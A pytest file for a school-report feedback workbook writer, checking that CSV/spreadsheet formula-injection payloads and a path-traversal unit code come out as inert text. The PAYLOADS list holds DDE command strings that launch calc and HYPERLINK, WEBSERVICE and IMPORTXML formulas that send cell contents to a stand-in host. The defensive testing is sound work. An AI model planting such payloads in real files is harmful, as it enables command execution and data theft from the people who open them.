"""Feedback workbooks: marked cells, the `Lỗi cần sửa` sheet, and inert text."""

from __future__ import annotations

import re
import zipfile
from datetime import date
from pathlib import Path

import openpyxl
import pytest
from python_calamine import CalamineWorkbook
from test_seeded_errors import PROGRESS, VALUES, Book, csv_rows

from core.model import Submission, issue
from core.settings import Settings
from core.text import canonical
from outputs.feedback import (
    FEEDBACK_HEADERS,
    FEEDBACK_SHEET,
    UNKNOWN_UNIT_FOLDER,
    write_feedback,
)
from schemas.schema import Schema, load_schema
from schemas.validation import validate
from schemas.verdict import Verdict
from sources.read import read_path

TODAY = date(2029, 5, 20)
BODIES = [
    "1+1",
    "cmd|' /C calc'!A0",
    'HYPERLINK("http://x.invalid/?q="&A1,"Bấm vào đây")',
    "SUM(A1:A9)",
    'WEBSERVICE("http://x.invalid/")',
]
PREFIXES = ["=", "+", "-", "@", "\t=", "\r=", " =", "\u00a0=", "\uff1d", "\uff0b"]
PAYLOADS = [p + b for p in PREFIXES for b in BODIES] + [
    '=DDE("cmd";"/C calc";"!A0")',
    "-2+3+cmd|' /C calc'!'A1'",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "==1",
    "=-1",
    '=IMPORTXML(CONCAT("http://x.invalid/?v=",A1),"//a")',
]


def _verdict(path: Path, schema: Schema) -> Verdict:
    [verdict] = validate([read_path(path, settings=Settings())], schema, today=TODAY)
    return verdict


def _feedback_rows(path: Path) -> list[tuple[object, ...]]:
    sheet = openpyxl.load_workbook(path)[FEEDBACK_SHEET]
    rows = list(sheet.iter_rows(values_only=True))
    start = rows.index(FEEDBACK_HEADERS)
    return rows[start + 1 :]


def _no_formula_anywhere(path: Path) -> None:
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/") and name.endswith(".xml"):
                xml = archive.read(name)
                assert b"<f>" not in xml and b"<f " not in xml, name
        assert not any("vbaProject" in name for name in archive.namelist())
    book = openpyxl.load_workbook(path)
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)


def test_rejected_xlsx_gets_marked_copy(tmp_path: Path, schema: Schema) -> None:
    book = Book(load_schema(Settings()), "THCS-NH", "2029Q1", tmp_path)
    negative = book.set_value("5.3.1", -2)
    book.set_unit("THCS-XYZ")
    status_row = book.task_row("5.3")
    book.progress[f"C{status_row}"] = "Xong"
    original = book.save(tmp_path / "bao_cao.xlsx")
    verdict = _verdict(original, schema)
    assert verdict.status == "rejected"

    out = write_feedback(verdict, original, tmp_path / "outbox")
    assert out is not None and out.parent == tmp_path / "outbox" / "THCS-XYZ"
    assert re.fullmatch(r"bao_cao_[0-9a-f]{8}_phan-hoi\.xlsx", out.name)
    result = openpyxl.load_workbook(out)
    assert result.sheetnames[0] == FEEDBACK_SHEET
    assert result.active.title == FEEDBACK_SHEET
    listed = {(r[1], r[2], r[3]) for r in _feedback_rows(out)}
    assert listed == {
        (VALUES, negative, "V-VALUE-NEGATIVE"),
        (PROGRESS, f"C{status_row}", "V-STATUS-INVALID"),
        # The unit has no table column here: its label cell is found in the workbook.
        (VALUES, "B5", "V-UNIT-UNKNOWN"),
    }
    for row in _feedback_rows(out):
        assert isinstance(row[4], str) and isinstance(row[5], str) and row[5]
    cell = result[VALUES][negative]
    assert cell.value == -2 and cell.data_type == "n"
    assert cell.comment is not None and "V-VALUE-NEGATIVE" in cell.comment.text
    assert cell.fill.fgColor.rgb.endswith("FFC7CE")
    assert result[PROGRESS][f"C{status_row}"].comment is not None
    assert result[VALUES]["E10"].comment is None
    _no_formula_anywhere(out)


def test_accepted_file_gets_no_feedback_and_warned_one_does(tmp_path: Path, schema: Schema) -> None:
    clean = Book(load_schema(Settings()), "THCS-NH", "2029Q1", tmp_path).save(tmp_path / "a.xlsx")
    assert write_feedback(_verdict(clean, schema), clean, tmp_path / "outbox") is None
    book = Book(load_schema(Settings()), "THCS-NH", "2029Q1", tmp_path)
    row = book.add_value("1.1", "1.1.1", 2)
    warned = book.save(tmp_path / "w.xlsx")
    verdict = _verdict(warned, schema)
    assert verdict.status == "warned"
    out = write_feedback(verdict, warned, tmp_path / "outbox")
    assert out is not None
    assert openpyxl.load_workbook(out)[VALUES][f"E{row}"].fill.fgColor.rgb.endswith("FFEB9C")


@pytest.mark.parametrize("suffix", [".xls", ".ods", ".xlsm"])
def test_other_formats_are_rebuilt_as_xlsx(tmp_path: Path, schema: Schema, suffix: str) -> None:
    book = Book(load_schema(Settings()), "THCS-NH", "2029Q1", tmp_path)
    address = book.set_value("5.3.2", 1.5)
    original = book.save(tmp_path / f"goc{suffix}")
    verdict = _verdict(original, schema)
    out = write_feedback(verdict, original, tmp_path / "outbox")
    assert out is not None and out.suffix == ".xlsx"
    result = openpyxl.load_workbook(out)
    assert result[VALUES][address].value == 1.5
    assert result[VALUES][address].comment is not None
    assert result[VALUES]["B5"].value == "THCS-NH"
    assert (VALUES, address, "V-VALUE-WHOLE") in {(r[1], r[2], r[3]) for r in _feedback_rows(out)}
    _no_formula_anywhere(out)


def test_unreadable_file_gets_the_findings_sheet_only(tmp_path: Path) -> None:
    original = tmp_path / "hong.xlsx"
    original.write_bytes(b"PK\x03\x04 broken")
    sub = Submission(url=str(original), name=original.name, size=14, sha256="0")
    sub.issues.append(issue("R-FILE-CORRUPT", file=original.name, detail="zip"))
    out = write_feedback(Verdict(sub, list(sub.issues)), original, tmp_path / "outbox")
    assert out is not None and out.parent.name == UNKNOWN_UNIT_FOLDER
    book = openpyxl.load_workbook(out)
    assert book.sheetnames == [FEEDBACK_SHEET]
    assert [r[3] for r in _feedback_rows(out)] == ["R-FILE-CORRUPT"]


def test_unit_code_cannot_escape_the_outbox(tmp_path: Path) -> None:
    sub = Submission(url="x.xlsx", name="../../x.xlsx", size=1, sha256="0", unit_code="../../..")
    sub.issues.append(issue("R-FILE-CORRUPT", file="x", detail="zip"))
    out = write_feedback(Verdict(sub, list(sub.issues)), tmp_path / "x.xlsx", tmp_path / "ob")
    assert out is not None and (tmp_path / "ob") in out.parents


def _same_text(read: object, payload: str) -> bool:
    # XML turns a bare CR into LF; the text is otherwise kept as the unit wrote it.
    return isinstance(read, str) and read.replace("\r", "\n") == payload.replace("\r", "\n")


def test_injection_payloads_read_back_as_text(tmp_path: Path, schema: Schema) -> None:
    assert len(PAYLOADS) >= 50
    book = Book(load_schema(Settings()), "THCS-NH", "2029Q1", tmp_path)
    values = book.values
    start = values.max_row + 3
    for i, payload in enumerate(PAYLOADS):
        # Text the unit typed in a note column, and also as a real formula in the next column.
        values.cell(start + i, 6, payload).data_type = "s"
        values.cell(start + i, 7, "=1+1")
    book.set_value("5.3.1", -1)
    # A payload in the status reaches the feedback sheet through the message.
    book.progress[f"C{book.task_row('5.3')}"] = PAYLOADS[1]
    original = book.save(tmp_path / "tiem.xlsx")

    # The same payloads in a CSV, rebuilt cell by cell; a sheet named like a formula, too.
    rows = csv_rows("THCS-NH", {"5.3.1": -1}, {"2.1": "Hoàn thành"})
    rows[0] = [*rows[0], "Ghi chú thêm"]
    rows += [[None] * 10 + [payload] for payload in PAYLOADS]
    from filemakers import write

    csv_original = write(tmp_path / "=1+1.csv", {"x": rows})

    verdicts = validate(
        [read_path(p, settings=Settings()) for p in (original, csv_original)],
        schema,
        today=TODAY,
    )
    for verdict, path, column in ((verdicts[0], original, 6), (verdicts[1], csv_original, 11)):
        assert verdict.status == "rejected"
        out = write_feedback(verdict, path, tmp_path / "outbox")
        assert out is not None
        _no_formula_anywhere(out)
        sheet_name = VALUES if path.suffix == ".xlsx" else "=1+1"
        first = start if path.suffix == ".xlsx" else len(rows) - len(PAYLOADS) + 1
        result = openpyxl.load_workbook(out)
        grid = CalamineWorkbook.from_path(str(out)).get_sheet_by_name(sheet_name).to_python()
        for i, written in enumerate(PAYLOADS):
            # CSV text is read in one spelling (NFC, single spaces, trimmed), as the reader does.
            payload = written if path.suffix == ".xlsx" else canonical(written)
            cell = result[sheet_name].cell(first + i, column)
            assert cell.data_type == "s" and _same_text(cell.value, payload), (i, cell.value)
            assert cell.quotePrefix, payload
            assert _same_text(grid[first + i - 1][column - 1], payload)
        listed = _feedback_rows(out)
        assert all(isinstance(v, str | int) or v is None for r in listed for v in r)
        if path.suffix == ".csv":
            # The sheet column of the findings list starts with "=" and stays text.
            assert any(r[1] == "=1+1" for r in listed)
            number = result[sheet_name]["G2"]
            assert number.value == -1 and number.data_type == "n"
        else:
            # Formulas the workbook held come back as their text, never as formulas.
            assert result[VALUES].cell(start, 7).value == "=1+1"
